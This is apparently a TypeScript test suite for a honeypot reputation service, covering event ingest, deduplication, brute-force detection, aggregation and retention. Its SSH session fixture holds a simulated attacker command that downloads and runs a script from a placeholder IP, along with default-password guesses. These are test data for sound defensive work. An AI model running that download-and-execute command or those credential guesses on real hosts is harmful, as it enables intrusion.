// Sensor ingest, aggregates and evidence look-ups on every engine: SPEC §7, §3.1, §3.5, §1 (incremental reputation).
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { validateEvent } from '../src/core/events.js';
import { DAY_MS, utcDay } from '../src/core/time.js';
import { EXPAND_EVENTS } from '../src/services/evidence-ingest.js';
import { behaviorsFor } from '../src/services/evidence-read.js';
import { createServices } from '../src/services/services.js';
import type { DbExecutor } from '../src/store/database.js';
import { countPendingEventBatches } from '../src/store/evidence-repository.js';
import { ensurePartitions } from '../src/store/partitions.js';
import { Store } from '../src/store/store.js';
import { ENGINES, skipReason } from './helpers/engines.js';
import { bearer, createTestApp, type TestApp } from './helpers/test-app.js';

const MINUTE = 60_000;

/** A realistic SSH session: failed logins, a success, recon, a download-and-run, disconnect. */
function sshSession(ip: string, session: string, start: number, sensor = 'hp-1') {
  const base = { sensor, session, srcIp: ip, srcPort: 40000, dstPort: 22, protocol: 'ssh' };
  let n = 0;
  const ev = (type: string, extra: Record<string, unknown>) => ({
    ...base,
    id: `${session}-${n}`,
    ts: new Date(start + n++ * 1000).toISOString(),
    type,
    ...extra,
  });
  return [
    ev('connect', {}),
    ...['admin', 'root', 'pi', 'ubnt', 'test'].map((username) =>
      ev('auth', { username, password: '123456', success: false }),
    ),
    ev('auth', { username: 'root', password: 'root', success: true }),
    ev('command', { command: 'uname -a' }),
    ev('command', { command: 'cd /tmp; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh' }),
    ev('download', { url: 'http://198.51.100.7/x.sh', sha256: null }),
    ev('disconnect', { durationMs: 12_000 }),
  ];
}

/** A session that tries `failures` passwords over SSH and leaves (one password per connection when 1). */
function guessSession(ip: string, session: string, start: number, failures = 1, from = 0) {
  const base = { sensor: 'hp-1', session, srcIp: ip, srcPort: 40000, dstPort: 22, protocol: 'ssh' };
  const at = (n: number) => new Date(start + n * 1000).toISOString();
  return [
    ...(from === 0 ? [{ ...base, id: `${session}-c`, ts: at(0), type: 'connect' }] : []),
    ...Array.from({ length: failures }, (_, i) => ({
      ...base,
      id: `${session}-a${from + i}`,
      ts: at(1 + from + i),
      type: 'auth',
      username: 'root',
      password: `pw${from + i}`,
      success: false,
    })),
  ];
}

function smtpSession(ip: string, session: string, start: number) {
  const base = { sensor: 'hp-1', session, srcIp: ip, srcPort: 50000, dstPort: 25, protocol: 'smtp' };
  return ['EHLO x', 'MAIL FROM:<a@example.org>', 'RCPT TO:<Victim@Example.com>', 'DATA'].map(
    (command, i) => ({
      ...base,
      id: `${session}-${i}`,
      ts: start + i * 1000,
      type: 'command',
      command,
    }),
  );
}

/** Events as the endpoint validates them (for calls to the service itself). */
function valid(now: number, events: Record<string, unknown>[]) {
  return events.map((input) => {
    const checked = validateEvent(input, now, null);
    if (!checked.ok) throw new Error(checked.reason);
    return checked.event;
  });
}

/** Everything the API can show about an IP, from the aggregate tables. */
async function snapshot(db: DbExecutor, ip: string) {
  const rep = await db
    .selectFrom('reputations')
    .select(['sessions', 'events', 'first_seen', 'last_seen', 'score', 'score_raw', 'max_severity'])
    .where('ip', '=', ip)
    .executeTakeFirst();
  const rows = async (table: 'reputation_protocols' | 'reputation_behaviors' | 'reputation_primitives') =>
    (await db.selectFrom(table).selectAll().where('ip', '=', ip).execute())
      .map((r) =>
        JSON.stringify(Object.entries(r).map(([k, v]) => [k, Number.isFinite(Number(v)) ? Number(v) : v])),
      )
      .sort();
  const days = (await db.selectFrom('reputation_days').selectAll().where('ip', '=', ip).execute())
    .filter((r) => Number(r.sessions) !== 0 || Number(r.events) !== 0 || Number(r.reports) !== 0)
    .map((r) => `${r.day}:${Number(r.sessions)}:${Number(r.events)}`)
    .sort();
  const users = (
    await db.selectFrom('sensor_usernames').selectAll().orderBy('username').orderBy('protocol').execute()
  ).map(
    (r) => `${r.username}:${r.protocol}:${Number(r.sessions)}:${Number(r.first_seen)}:${Number(r.last_seen)}`,
  );
  return {
    rep: rep && Object.fromEntries(Object.entries(rep).map(([k, v]) => [k, Number(v)])),
    protocols: await rows('reputation_protocols'),
    behaviors: await rows('reputation_behaviors'),
    primitives: await rows('reputation_primitives'),
    days,
    users,
  };
}

/** A snapshot with its own address (and the username table, shared by all) taken out, to compare two IPs. */
function withoutIp(x: Awaited<ReturnType<typeof snapshot>>, ip: string) {
  return JSON.parse(JSON.stringify({ ...x, users: [] }).replaceAll(ip, 'IP'));
}

for (const engine of ENGINES) {
  describe(`sensor events (${engine})`, { skip: skipReason(engine) }, () => {
    let t: TestApp;
    let sensorKey: string;
    let userKey: string;

    before(async () => {
      t = await createTestApp(engine);
      sensorKey = await t.key('sensor');
      userKey = await t.key('tier_1');
    });
    after(async () => t?.close());

    const send = (events: unknown, key = sensorKey) =>
      t.app.inject({ method: 'POST', url: '/v1/sensor/events', headers: bearer(key), payload: { events } });
    // Ingest answers before aggregation (decision 0630); these tests look at the aggregates after it.
    const post = async (events: unknown, key = sensorKey) => {
      const res = await send(events, key);
      await t.services.evidence.drain();
      return res;
    };

    it('refuses keys that are not sensor keys', async () => {
      const res = await post([], userKey);
      assert.equal(res.statusCode, 403);
      assert.equal(res.json().code, 'forbidden');
    });

    it('keeps good events and rejects bad ones by index and reason, including age and future skew', async () => {
      const now = t.clock.now();
      const good = sshSession('45.83.13.10', 'val-1', now - 10 * MINUTE).slice(0, 2);
      const res = await post([
        good[0],
        { ...good[0], id: 'x1', srcIp: '10.0.0.1' },
        { ...good[0], id: 'x2', ts: now - 31 * 24 * 60 * MINUTE },
        { ...good[0], id: 'x3', ts: now + 6 * MINUTE },
        'not an object',
        good[1],
      ]);
      assert.equal(res.statusCode, 200, res.body);
      const body = res.json();
      assert.equal(body.received, 6);
      assert.equal(body.accepted, 2);
      assert.equal(body.rejected, 4);
      assert.deepEqual(
        body.errors.map((e: { index: number }) => e.index),
        [1, 2, 3, 4],
      );
      assert.match(body.errors[0].reason, /public/);
      assert.match(body.errors[1].reason, /retention/);
      assert.match(body.errors[2].reason, /future/);
    });

    it('refuses batches over 5,000 events', async () => {
      const res = await post(Array.from({ length: 5001 }, () => ({})));
      assert.equal(res.statusCode, 413);
    });

    it('gives the same reputation for a batch once, twice, or split and retried out of order', async () => {
      const now = t.clock.now();
      // Three IPs, one per delivery pattern; the same events shifted onto each IP.
      const events = (ip: string) => [
        ...sshSession(ip, `s-${ip}-a`, now - 2 * 24 * 60 * MINUTE),
        ...sshSession(ip, `s-${ip}-b`, now - 30 * MINUTE),
      ];
      const once = events('45.83.13.21');
      const twice = events('45.83.13.22');
      const split = events('45.83.13.23');
      assert.equal((await post(once)).json().accepted, once.length);
      const first = (await post(twice)).json();
      const second = (await post(twice)).json();
      assert.equal(first.accepted, twice.length);
      assert.equal(second.accepted, 0);
      assert.equal(second.duplicates, twice.length);
      // Split into overlapping pieces, later pieces first, each session cut in the middle.
      const pieces = [split.slice(15), split.slice(4, 18), split.slice(0, 6), split.slice(10, 13)];
      for (const piece of pieces) assert.equal((await post(piece)).statusCode, 200);

      const a = await snapshot(t.store.db, '45.83.13.21');
      const b = await snapshot(t.store.db, '45.83.13.22');
      const c = await snapshot(t.store.db, '45.83.13.23');
      const strip = (s: typeof a) => ({
        ...s,
        protocols: s.protocols.map((r) => r.replace(/45\.83\.13\.2\d/, 'IP')),
        behaviors: s.behaviors.map((r) => r.replace(/45\.83\.13\.2\d/, 'IP')),
        primitives: s.primitives.map((r) => r.replace(/45\.83\.13\.2\d/, 'IP')),
        days: s.days,
        users: [],
      });
      assert.deepEqual(strip(b), strip(a));
      assert.deepEqual(strip(c), strip(a));
      assert.equal(a.rep?.sessions, 2);
      assert.equal(a.rep?.events, once.length);
      assert.equal(a.rep?.max_severity, 4);
      assert.ok((a.rep?.score ?? 0) >= 90, `score ${a.rep?.score}`);
    });

    it('judges credential brute force across sessions per UTC day, the same for any split or order', async () => {
      // A whole UTC day inside the retention window, so every session lands on the same day.
      const day = (utcDay(t.clock.now()) - 2) * DAY_MS;
      const guesses = (ip: string, sessions: number) =>
        Array.from({ length: sessions }, (_, i) =>
          guessSession(ip, `g-${ip}-${i}`, day + 3_600_000 + i * 600_000),
        ).flat();
      const bruteForce = async (ip: string) =>
        Number(
          (
            await t.store.db
              .selectFrom('reputation_behaviors')
              .select('count')
              .where('ip', '=', ip)
              .where('behavior', '=', 'ssh_brute_force')
              .executeTakeFirst()
          )?.count ?? 0,
        );
      const windows = async (ip: string) =>
        (await t.store.db.selectFrom('sensor_auth_windows').selectAll().where('ip', '=', ip).execute())
          .map((r) => `${r.behavior}:${r.day}:${r.primitive}:${Number(r.count)}`)
          .sort();

      // Four single guesses: below the threshold. Six: one day over it, whatever the delivery.
      assert.equal((await post(guesses('45.83.14.1', 4))).statusCode, 200);
      assert.equal(await bruteForce('45.83.14.1'), 0);
      const six = guesses('45.83.14.2', 6);
      assert.equal((await post(six)).json().accepted, six.length);
      assert.equal(await bruteForce('45.83.14.2'), 1);
      const shuffled = guesses('45.83.14.3', 6);
      for (const piece of [shuffled.slice(7), shuffled.slice(2, 9), shuffled.slice(0, 4), shuffled]) {
        assert.equal((await post(piece)).statusCode, 200);
      }
      const strip = (x: unknown) => JSON.stringify(x).replace(/45\.83\.14\.\d/g, 'IP');
      assert.equal(
        strip(await snapshot(t.store.db, '45.83.14.3')),
        strip(await snapshot(t.store.db, '45.83.14.2')),
      );
      assert.deepEqual(await windows('45.83.14.3'), await windows('45.83.14.2'));
      assert.deepEqual(await windows('45.83.14.2'), [`ssh_brute_force:${utcDay(day)}:ssh_auth_failed:6`]);

      // A session that becomes a brute force by itself leaves the day's window: 1 session + 0 days.
      const five = guesses('45.83.14.4', 5);
      assert.equal((await post(five)).statusCode, 200);
      assert.equal(await bruteForce('45.83.14.4'), 1);
      const more = guessSession('45.83.14.4', 'g-45.83.14.4-0', day + 3_600_000, 4, 1);
      assert.equal((await post(more)).json().accepted, 4);
      assert.equal(await bruteForce('45.83.14.4'), 1);
      assert.deepEqual(await windows('45.83.14.4'), [`ssh_brute_force:${utcDay(day)}:ssh_auth_failed:4`]);
      // The same events in one batch give the same tables.
      const together = [
        ...guesses('45.83.14.5', 5),
        ...guessSession('45.83.14.5', 'g-45.83.14.5-0', day + 3_600_000, 4, 1),
      ];
      assert.equal((await post(together)).statusCode, 200);
      assert.equal(
        strip(await snapshot(t.store.db, '45.83.14.5')),
        strip(await snapshot(t.store.db, '45.83.14.4')),
      );
      assert.deepEqual(await windows('45.83.14.5'), await windows('45.83.14.4'));
    });

    it('serves sensor evidence in the check response, with protocol filter and maxAge', async () => {
      const res = await t.app.inject({
        method: 'GET',
        url: '/v1/key/check/45.83.13.21',
        headers: bearer(userKey),
      });
      assert.equal(res.statusCode, 200);
      const body = res.json();
      assert.equal(body.totalSessions, 2);
      assert.deepEqual(body.protocols, [{ protocol: 'ssh', sessions: 2, events: 22 }]);
      const names = body.behaviors.map((b: { name: string }) => b.name);
      for (const name of [
        'successful_login',
        'malware_download',
        'ssh_brute_force',
        'download_and_execute',
      ]) {
        assert.ok(names.includes(name), `${name} in ${names}`);
      }
      const malware = body.behaviors.find((b: { name: string }) => b.name === 'malware_download');
      assert.equal(malware.count, 2);
      assert.equal(malware.severity, 'very_high');
      assert.ok(malware.mitre.includes('T1105'));
      assert.ok(body.primitives.some((p: { name: string }) => p.name === 'download_any'));
      assert.ok(body.scoreBreakdown.sensor > 0);
      const recent = (
        await t.app.inject({
          method: 'GET',
          url: '/v1/key/check/45.83.13.21?maxAge=1&protocols=telnet&verbose=false',
          headers: bearer(userKey),
        })
      ).json();
      assert.equal(recent.totalSessions, 1);
      assert.equal(recent.totalEvents, 11);
      assert.deepEqual(recent.protocols, []);
      assert.equal(recent.behaviors, undefined);
    });

    it('exports behaviours with kill-chain phases for the TAXII feed', async () => {
      const behaviors = await behaviorsFor(t.store.db, '45.83.13.21');
      const malware = behaviors.find((b) => b.name === 'malware_download');
      assert.ok(malware);
      assert.equal(typeof malware.killChainPhase, 'string');
      assert.equal(malware.count, 2);
    });

    it('answers username and e-mail look-ups in epoch ms, 404 when unseen, counted as lookups', async () => {
      const now = t.clock.now();
      assert.equal((await post(smtpSession('45.83.13.40', 'mail-1', now - MINUTE))).json().accepted, 4);
      const user = await t.app.inject({
        method: 'GET',
        url: '/v1/key/username/ubnt',
        headers: bearer(userKey),
      });
      assert.equal(user.statusCode, 200);
      const body = user.json();
      // ubnt: once in each of the six full SSH sessions above (three IPs × two sessions).
      assert.equal(body.username, 'ubnt');
      assert.equal(body.totalSessions, 6);
      assert.deepEqual(body.protocolCounts, { ssh: 6 });
      assert.equal(typeof body.firstSeenAt, 'number');
      assert.ok(body.lastSeenAt >= body.firstSeenAt);
      assert.ok(Number(user.headers['x-daily-used']) >= 1);
      const missing = await t.app.inject({
        method: 'GET',
        url: '/v1/key/username/nobody-tried-this',
        headers: bearer(userKey),
      });
      assert.equal(missing.statusCode, 404);
      assert.equal(missing.headers['x-daily-used'], undefined);
      const mail = await t.app.inject({
        method: 'GET',
        url: '/v1/key/email/victim@example.com',
        headers: bearer(userKey),
      });
      assert.equal(mail.statusCode, 200, mail.body);
      assert.equal(mail.json().totalMessages, 1);
      assert.equal(mail.json().firstSeenAt, now - MINUTE + 2000);
      const noMail = await t.app.inject({
        method: 'GET',
        url: '/v1/key/email/x@example.net',
        headers: bearer(userKey),
      });
      assert.equal(noMail.statusCode, 404);
    });

    it('serves the detection catalog publicly', async () => {
      const res = await t.app.inject({ method: 'GET', url: '/v1/catalog' });
      assert.equal(res.statusCode, 200);
      const body = res.json();
      assert.equal(body.behaviors.length, 57);
      assert.ok(body.primitives.length > 50);
      const behavior = body.behaviors[0];
      for (const field of ['name', 'severity', 'description', 'mitre', 'killChainPhase'])
        assert.ok(field in behavior);
    });

    it('answers before aggregating: pending marks first, reputation only after a drain, never half of it', async () => {
      await t.services.evidence.stop();
      try {
        const now = t.clock.now();
        const ip = '45.83.13.70';
        const events = [
          ...sshSession(ip, 'late-a', now - 40 * MINUTE),
          ...sshSession(ip, 'late-b', now - 20 * MINUTE),
        ];
        // Two batches, the second continuing a session of the first: both marks merge before any drain.
        assert.equal((await send(events.slice(0, 15))).json().accepted, 15);
        assert.equal((await send(events.slice(10))).json().accepted, events.length - 15);
        if (engine === 'sqlite') {
          // Decision 0855: answered with the new events stored as two pending batches, no raw row or mark
          // yet; the aggregator writes those first (expandPending: that step alone).
          assert.equal(await countPendingEventBatches(t.store.db), 2);
          assert.equal(
            (await t.store.db.selectFrom('events').select('event_id').where('ip', '=', ip).execute()).length,
            0,
          );
          await t.services.evidence.expandPending();
          assert.equal(await countPendingEventBatches(t.store.db), 0);
        }
        const pending = await t.store.db
          .selectFrom('pending_sessions')
          .select(['session', 'ip'])
          .where('ip', '=', ip)
          .orderBy('session')
          .execute();
        assert.deepEqual(
          pending.map((r) => r.session),
          ['late-a', 'late-b'],
        );
        const stored = await t.store.db
          .selectFrom('events')
          .select('event_id')
          .where('ip', '=', ip)
          .execute();
        assert.equal(stored.length, events.length);
        // Nothing aggregated yet: check and the aggregates show none of it.
        const check = async () =>
          (
            await t.app.inject({ method: 'GET', url: `/v1/key/check/${ip}`, headers: bearer(userKey) })
          ).json();
        const early = await check();
        assert.equal(early.totalSessions ?? 0, 0);
        assert.equal((await snapshot(t.store.db, ip)).rep, undefined);

        await t.services.evidence.drain();
        assert.equal((await t.store.db.selectFrom('pending_sessions').selectAll().execute()).length, 0);
        const done = await check();
        assert.equal(done.totalSessions, 2);
        assert.deepEqual(done.protocols, [{ protocol: 'ssh', sessions: 2, events: 22 }]);
        // The same as the events in one batch aggregated at once, and a second drain changes nothing.
        const control = '45.83.13.74';
        const shifted = [
          ...sshSession(control, 'late-a', now - 40 * MINUTE, 'hp-2'),
          ...sshSession(control, 'late-b', now - 20 * MINUTE, 'hp-2'),
        ];
        assert.equal((await post(shifted)).json().accepted, shifted.length);
        const once = await snapshot(t.store.db, ip);
        assert.deepEqual(withoutIp(once, ip), withoutIp(await snapshot(t.store.db, control), control));
        await t.services.evidence.drain();
        assert.deepEqual(await snapshot(t.store.db, ip), once);
      } finally {
        t.services.evidence.start();
      }
    });

    it('keeps an answered batch across a restart: the next process stores and aggregates it (decision 0855)', {
      skip: engine !== 'sqlite' && "SQLite defers a batch's raw rows; PostgreSQL writes them in the request",
    }, async () => {
      await t.services.evidence.stop();
      let other: Store | undefined;
      try {
        const now = t.clock.now();
        const ip = '45.83.13.66';
        const events = [
          ...sshSession(ip, 'restart-a', now - 30 * MINUTE),
          ...sshSession(ip, 'restart-b', now - 10 * MINUTE),
        ];
        assert.equal((await send(events)).json().accepted, events.length);
        assert.equal(await countPendingEventBatches(t.store.db), 1);
        // This process stops here (its aggregator never ran); another one opens the same file.
        other = await Store.open(t.config.databaseUrl, { poolSize: 3 });
        const next = createServices(t.config, other, t.services.quota, t.clock);
        await next.evidence.drain();
        assert.equal(await countPendingEventBatches(t.store.db), 0);
        const stored = await t.store.db
          .selectFrom('events')
          .select('event_id')
          .where('ip', '=', ip)
          .execute();
        assert.equal(stored.length, events.length);
        const check = (
          await t.app.inject({ method: 'GET', url: `/v1/key/check/${ip}`, headers: bearer(userKey) })
        ).json();
        assert.equal(check.totalSessions, 2);
        // Re-sent after the restart: every event a duplicate, nothing pending.
        const again = (await send(events)).json();
        assert.equal(again.accepted, 0);
        assert.equal(again.duplicates, events.length);
        assert.equal(await countPendingEventBatches(t.store.db), 0);
      } finally {
        await other?.close();
        t.services.evidence.start();
      }
    });

    it('shows check an IP either not yet or wholly aggregated while a drain runs, never part-way', async () => {
      await t.services.evidence.stop();
      try {
        const now = t.clock.now();
        const ip = '45.83.13.75';
        const events = Array.from({ length: 30 }, (_, i) =>
          sshSession(ip, `whole-${i}`, now - (90 - 2 * i) * MINUTE),
        ).flat();
        assert.equal((await send(events)).json().accepted, events.length);
        const sessions = async () =>
          Number(
            (
              await t.app.inject({ method: 'GET', url: `/v1/key/check/${ip}`, headers: bearer(userKey) })
            ).json().totalSessions ?? 0,
          );
        let done = false;
        const draining = t.services.evidence.drain().then(() => {
          done = true;
        });
        const seen: number[] = [];
        for (let i = 0; i < 500 && !done; i++) seen.push(await sessions());
        await draining;
        seen.push(await sessions());
        assert.equal(seen.at(-1), 30);
        for (const n of seen) assert.ok(n === 0 || n === 30, `saw ${n} of 30 sessions`);
      } finally {
        t.services.evidence.start();
      }
    });

    it('lets other requests run between the transactions of a drain', async () => {
      await t.services.evidence.stop();
      try {
        const now = t.clock.now();
        for (const ip of ['45.83.13.120', '45.83.13.121']) {
          const events = sshSession(ip, `turn-${ip}`, now - 20 * MINUTE);
          assert.equal((await send(events)).json().accepted, events.length);
        }
        // SQLite work is synchronous: without a turn of the event loop between transactions a drain of
        // many batches held every other request until it ended.
        let done = false;
        const draining = t.services.evidence.drain().then(() => {
          done = true;
        });
        const ranDuring = new Promise<boolean>((resolve) => setImmediate(() => resolve(!done)));
        await draining;
        assert.equal(await ranDuring, true);
      } finally {
        t.services.evidence.start();
      }
    });

    it('aggregates on its own within seconds of an ingest', async () => {
      const now = t.clock.now();
      const ip = '45.83.13.71';
      assert.equal((await send(sshSession(ip, 'auto-1', now - 5 * MINUTE))).statusCode, 200);
      let sessions = 0;
      for (let i = 0; i < 100 && sessions === 0; i++) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        sessions = Number((await snapshot(t.store.db, ip)).rep?.sessions ?? 0);
      }
      assert.equal(sessions, 1);
      const left = await t.store.db.selectFrom('pending_sessions').selectAll().where('ip', '=', ip).execute();
      assert.equal(left.length, 0);
    });

    it('ends in the same tables when another process drains marks left by a crash', async () => {
      await t.services.evidence.stop();
      const now = t.clock.now();
      const ip = '45.83.13.72';
      const control = '45.83.13.73';
      let other: Store | undefined;
      try {
        const events = (address: string) => [
          ...sshSession(address, `crash-${address}-a`, now - 50 * MINUTE),
          ...guessSession(address, `crash-${address}-b`, now - 45 * MINUTE, 3),
        ];
        assert.equal((await send(events(ip))).statusCode, 200);
        // A second process on the same database finds the marks and aggregates them.
        other = await Store.open(t.config.databaseUrl, { poolSize: 3 });
        const services = createServices(t.config, other, t.services.quota, t.clock);
        await services.evidence.drain();
        assert.equal((await other.db.selectFrom('pending_sessions').selectAll().execute()).length, 0);
        assert.equal((await post(events(control))).statusCode, 200);
        assert.deepEqual(
          withoutIp(await snapshot(t.store.db, ip), ip),
          withoutIp(await snapshot(t.store.db, control), control),
        );
      } finally {
        await other?.close();
        t.services.evidence.start();
      }
    });

    it('aggregates a new session from the events just stored only while they are the whole stored session', async () => {
      // Each case runs on two addresses: one drained here, where the fresh-session cache (decision 0631)
      // may serve the events, one drained by a second process on the same database, which reads the
      // stored rows. Both must end in the same tables.
      await t.services.evidence.stop();
      const now = t.clock.now();
      const start = now - 40 * MINUTE;
      let other: Store | undefined;
      try {
        other = await Store.open(t.config.databaseUrl, { poolSize: 3 });
        const elsewhere = createServices(t.config, other, t.services.quota, t.clock);
        const cases: [string, (ip: string, drain: () => Promise<void>) => Promise<void>][] = [
          [
            'a new session',
            async (ip, drain) => {
              assert.equal((await send(guessSession(ip, `fc1-${ip}`, start, 6))).statusCode, 200);
              await t.services.evidence.expandPending();
              await drain();
            },
          ],
          [
            'continued by another process before the drain',
            async (ip, drain) => {
              assert.equal((await send(guessSession(ip, `fc2-${ip}`, start, 3))).statusCode, 200);
              await t.services.evidence.expandPending();
              await elsewhere.evidence.ingest(valid(now, guessSession(ip, `fc2-${ip}`, start, 3, 3)), now);
              await elsewhere.evidence.expandPending();
              await drain();
            },
          ],
          [
            'raw events dropped (retention) before the drain',
            async (ip, drain) => {
              assert.equal((await send(guessSession(ip, `fc3-${ip}`, start, 6))).statusCode, 200);
              await t.services.evidence.expandPending();
              await t.store.db
                .deleteFrom('events')
                .where('session', '=', `fc3-${ip}`)
                .where('event_id', 'in', [`fc3-${ip}-a0`, `fc3-${ip}-a1`, `fc3-${ip}-a2`])
                .execute();
              await drain();
            },
          ],
          [
            'continued elsewhere and as many of its first events dropped before the drain',
            async (ip, drain) => {
              // Stored count equal to the cached events, but not the same events.
              assert.equal((await send(guessSession(ip, `fc5-${ip}`, start, 3))).statusCode, 200);
              await t.services.evidence.expandPending();
              await elsewhere.evidence.ingest(valid(now, guessSession(ip, `fc5-${ip}`, start, 4, 3)), now);
              await elsewhere.evidence.expandPending();
              await t.store.db
                .deleteFrom('events')
                .where('session', '=', `fc5-${ip}`)
                .where('event_id', 'in', [`fc5-${ip}-c`, `fc5-${ip}-a0`, `fc5-${ip}-a1`, `fc5-${ip}-a2`])
                .execute();
              await drain();
            },
          ],
          [
            'stored events but no session row (purged with the reputation)',
            async (ip, drain) => {
              assert.equal((await send(guessSession(ip, `fc4-${ip}`, start, 3))).statusCode, 200);
              await drain();
              await t.store.db.deleteFrom('sensor_sessions').where('session', '=', `fc4-${ip}`).execute();
              assert.equal((await send(guessSession(ip, `fc4-${ip}`, start, 3, 3))).statusCode, 200);
              await t.services.evidence.expandPending();
              await drain();
            },
          ],
        ];
        const state = async (ip: string) =>
          (await t.store.db.selectFrom('sensor_sessions').select('state').where('ip', '=', ip).execute()).map(
            (row) => row.state,
          );
        let octet = 80;
        for (const [name, run] of cases) {
          const here = `45.83.13.${octet++}`;
          const there = `45.83.13.${octet++}`;
          await run(here, async () => {
            if (name === 'a new session' && engine === 'sqlite') {
              assert.ok(t.services.evidence.cachedSessions > 0, 'the new session is cached');
            }
            await t.services.evidence.drain();
          });
          await run(there, () => elsewhere.evidence.drain());
          const strip = (x: unknown, from: string) =>
            JSON.parse(JSON.stringify(x).replaceAll(from, 'IP').replaceAll(`fc${name}`, ''));
          assert.deepEqual(
            strip({ ...(await snapshot(t.store.db, here)), users: [] }, here),
            strip({ ...(await snapshot(t.store.db, there)), users: [] }, there),
            name,
          );
          assert.deepEqual(await state(here), await state(there), name);
        }
        assert.equal((await t.store.db.selectFrom('pending_sessions').selectAll().execute()).length, 0);
      } finally {
        await other?.close();
        t.services.evidence.start();
      }
    });

    it('stores and aggregates an import chunk in one go, as ingest followed by a drain does', async () => {
      await t.services.evidence.stop();
      const now = t.clock.now();
      try {
        const events = (ip: string) =>
          valid(now, [
            ...sshSession(ip, `ia-${ip}-a`, now - 50 * MINUTE),
            ...guessSession(ip, `ia-${ip}-b`, now - 45 * MINUTE, 3),
            ...guessSession(ip, `ia-${ip}-c`, now - 44 * MINUTE, 3),
          ]);
        const ip = '45.83.13.91';
        const control = '45.83.13.92';
        // In two overlapping pieces, the second continuing sessions the first aggregated.
        const all = events(ip);
        const first = await t.services.evidence.ingestAndAggregate(all.slice(0, 9), now);
        assert.equal(first.accepted, 9);
        assert.equal((await t.store.db.selectFrom('pending_sessions').selectAll().execute()).length, 0);
        assert.ok((await snapshot(t.store.db, ip)).rep, 'aggregated before the call returned');
        const second = await t.services.evidence.ingestAndAggregate(all.slice(5), now);
        assert.deepEqual([second.accepted, second.duplicates], [all.length - 9, 4]);
        assert.equal((await t.store.db.selectFrom('pending_sessions').selectAll().execute()).length, 0);
        await t.services.evidence.ingest(events(control), now);
        await t.services.evidence.drain();
        assert.deepEqual(
          withoutIp(await snapshot(t.store.db, ip), ip),
          withoutIp(await snapshot(t.store.db, control), control),
        );
      } finally {
        t.services.evidence.start();
      }
    });

    it('expands a batch larger than one transaction in pieces, ending as one transaction would', async () => {
      await t.services.evidence.stop();
      const now = t.clock.now();
      const store = t.store;
      const original = store.transaction.bind(store);
      try {
        // ~EXPAND_EVENTS * 1.6 events in whole sessions of 4 (connect + 3 guesses), plus a full session.
        const events = (ip: string) => [
          ...sshSession(ip, `big-${ip}-ssh`, now - 60 * MINUTE),
          ...Array.from({ length: Math.ceil((EXPAND_EVENTS * 1.6) / 4) }, (_, i) =>
            guessSession(ip, `big-${ip}-${i}`, now - 50 * MINUTE + i * 1000, 3),
          ).flat(),
        ];
        const ip = '45.83.13.140';
        const control = '45.83.13.141';
        const batch = events(ip);
        assert.ok(batch.length > EXPAND_EVENTS && batch.length <= 5_000);
        assert.equal((await send(batch)).json().accepted, batch.length);
        let transactions = 0;
        store.transaction = ((work: Parameters<typeof original>[0]) => {
          transactions++;
          return original(work);
        }) as typeof store.transaction;
        await t.services.evidence.drain();
        store.transaction = original;
        if (engine === 'sqlite') assert.ok(transactions >= 3, `${transactions} transactions`);
        assert.equal(await countPendingEventBatches(t.store.db), 0);
        // The same events stored and aggregated in one transaction (the import path).
        await t.services.evidence.ingestAndAggregate(valid(now, events(control)), now);
        assert.deepEqual(
          withoutIp(await snapshot(t.store.db, ip), ip),
          withoutIp(await snapshot(t.store.db, control), control),
        );
      } finally {
        store.transaction = original;
        t.services.evidence.start();
      }
    });

    it('counts a contributor report with a protocol under that protocol', async () => {
      const res = await t.app.inject({
        method: 'POST',
        url: '/v1/key/report',
        headers: bearer(userKey),
        payload: { ip: '45.83.13.21', category: 'brute_force', protocol: 'telnet' },
      });
      assert.equal(res.statusCode, 200);
      const body = (
        await t.app.inject({ method: 'GET', url: '/v1/key/check/45.83.13.21', headers: bearer(userKey) })
      ).json();
      assert.deepEqual(
        body.protocols.find((p: { protocol: string }) => p.protocol === 'telnet'),
        { protocol: 'telnet', sessions: 0, events: 1 },
      );
      assert.ok(body.scoreBreakdown.crossSourceMultiplier > 1);
    });

    it('ages raw events out by day and purges an idle IP from every evidence table', async () => {
      const now = t.clock.now();
      const ip = '45.83.13.60';
      if (engine === 'postgres') {
        await ensurePartitions(t.store.db, 'events', 'day', utcDay(now) - 3, utcDay(now) + 1);
      }
      assert.equal((await post(sshSession(ip, 'old-1', now - 2 * DAY_MS))).json().accepted, 11);
      const rows = async (table: 'events' | 'evidence_ids' | 'sensor_sessions' | 'reputation_behaviors') =>
        Number(
          (
            await t.store.db
              .selectFrom(table)
              .select((eb) => eb.fn.countAll<number>().as('n'))
              .where('ip', '=', ip)
              .executeTakeFirstOrThrow()
          ).n,
        );
      assert.equal(await rows('events'), 11);
      const later = now + 40 * DAY_MS;
      const result = await t.services.retention.run(later);
      assert.ok((result.telemetry.events ?? 0) + result.partitionsDropped > 0, JSON.stringify(result));
      for (const table of ['events', 'evidence_ids', 'sensor_sessions', 'reputation_behaviors'] as const) {
        assert.equal(await rows(table), 0, table);
      }
    });
  });
}
